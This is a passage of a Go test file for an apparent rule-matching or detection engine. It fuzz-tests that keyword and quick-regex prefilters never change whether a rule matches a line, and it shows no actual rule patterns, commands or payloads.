					got, want := r.hits(text, strings.ToLower(text)), plain.hits(text, text)
					if got != want {
						t.Errorf("%q: got %v with prefilters, want %v as without", text, got, want)
					}
				}
			})
		}
	}
}

// FuzzPrefilters checks that a built-in rule's prefilters (keywords and
// quick expressions) never change whether it hits a line.
func FuzzPrefilters(f *testing.F) {
	for _, cases := range [][]ruleCase{commandCases, outputCases} {
		for _, tc := range cases {
			f.Add(tc.text)
		}
	}
	e, err := New("")
	if err != nil {
		f.Fatal(err)
	}
	var rules, plain []Rule
	for _, p := range e.Packs() {
		for _, r := range p.Rules {
			if r.Kind == KindSQL {
				continue
			}
			rules = append(rules, r)
			r.keywords, r.quickRe = nil, nil
			plain = append(plain, r)
		}
	}
	f.Fuzz(func(t *testing.T, text string) {
		lower := strings.ToLower(text)
		for i := range rules {
			if got, want := rules[i].hits(text, lower), plain[i].hits(text, text); got != want {
				t.Errorf("%s on %q: got %v with prefilters, want %v", rules[i].ID, text, got, want)
			}
		}
	})
}
